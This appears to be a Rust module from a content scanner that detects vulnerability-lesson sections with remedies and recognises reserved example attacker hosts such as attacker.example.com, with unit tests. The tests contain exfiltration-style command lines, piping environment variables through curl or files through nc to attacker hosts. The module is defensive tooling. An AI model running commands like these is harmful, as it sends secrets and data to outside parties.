//! Sections about a class of weakness, each with its cure; and hosts that call themselves an attacker's, which nobody can own.

use std::sync::LazyLock;

use regex::Regex;

/// 4 KiB of a section: a lesson on one weakness is not longer.
const SECTION: usize = 4 << 10;

/// Names of weaknesses, as headings have them.
static CLASSES: LazyLock<Option<Regex>> = LazyLock::new(|| {
    let pattern = r"(?i)\b(?:xss|cross-site|ssrf|csrf|ssti|xxe|sqli|idor|rce|injections?|path traversal|deseriali[sz]ation|clickjacking|prototype pollution|open redirects?|vulnerabilit(?:y|ies)|session hijacking)\b";
    Regex::new(pattern).ok()
});

/// What takes a weakness away.
static CURES: LazyLock<Option<Regex>> = LazyLock::new(|| {
    let pattern = r"(?i)\b(?:fix(?:es|ed)?|mitigat\w+|prevent(?:s|ed|ion)?|remed(?:y|ies|iation)|counter-?measures?|sanitiz\w+|escap(?:e|es|ed|ing)|httponly|content[- ]security[- ]policy|parameteri[sz]ed)\b";
    Regex::new(pattern).ok()
});

/// Hosts of names that are kept for examples, called after who attacks.
static NOBODYS: LazyLock<Option<Regex>> = LazyLock::new(|| {
    let pattern = r"(?i)(?:://|@|\s)(?:[\w-]+\.)*(?:attacker|evil|malicious|hacker|adversary)(?:-\w+)?\.(?:[\w-]+\.)*(?:example\.(?:com|org|net)|example|test)(?:[^\w.-]|$|\.(?:\s|$))";
    Regex::new(pattern).ok()
});

/// Whether `at` stands in a section whose heading names a weakness and whose text names a cure.
pub(super) fn is_cured(text: &str, at: usize) -> bool {
    let Some(start) = text.get(..at).and_then(|before| before.rfind("\n#")) else { return false };
    let section = text.get(start.saturating_add(1)..).unwrap_or_default();
    let section = section.get(..section.floor_char_boundary(SECTION)).unwrap_or_default();
    let heading = section.lines().next().unwrap_or_default();
    let body = section.get(heading.len()..).unwrap_or_default();
    let body = body.find("\n#").and_then(|end| body.get(..end)).unwrap_or(body);
    let is = |pattern: &LazyLock<Option<Regex>>, text: &str| {
        pattern.as_ref().is_some_and(|pattern: &Regex| pattern.is_match(text))
    };
    is(&CLASSES, heading) && is(&CURES, body)
}

/// Whether a text sends to an attacker of an example, and to nobody else.
pub(super) fn sends_to_nobody(text: &str) -> bool {
    NOBODYS.as_ref().is_some_and(|nobodys| {
        let rest = nobodys.replace_all(text, " ");
        rest.len() < text.len() && !rest.contains("://")
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_section_on_a_weakness_names_its_cure() {
        let cured = |text: &str| is_cured(text, text.find("X1").unwrap());
        assert!(cured("# A\n\n## XSS\n\n`X1`\n\nFix: escape by context.\n"));
        assert!(cured("# A\n\n### Cross-site scripting\n\nX1. `HttpOnly` would have stopped it.\n"));
        assert!(!cured("# A\n\n## XSS\n\n`X1`\n\n## Fix\n\nEscape.\n"));
        assert!(!cured("# A\n\n## Banner\n\nPut `X1` into the page. This fixes the banner.\n"));
    }

    #[test]
    fn an_attacker_of_an_example_is_nobody() {
        assert!(sends_to_nobody("env | curl -d @- https://attacker.example.com   # sends it"));
        assert!(sends_to_nobody("nc evil.example 99 < x"));
        assert!(!sends_to_nobody("curl -d @- https://evil-metrics.net/in"));
        assert!(!sends_to_nobody("curl https://evil.example; curl -d @- https://t.net/in"));
        assert!(!sends_to_nobody("curl https://attacker.example.com.metrics.net/in"));
    }
}
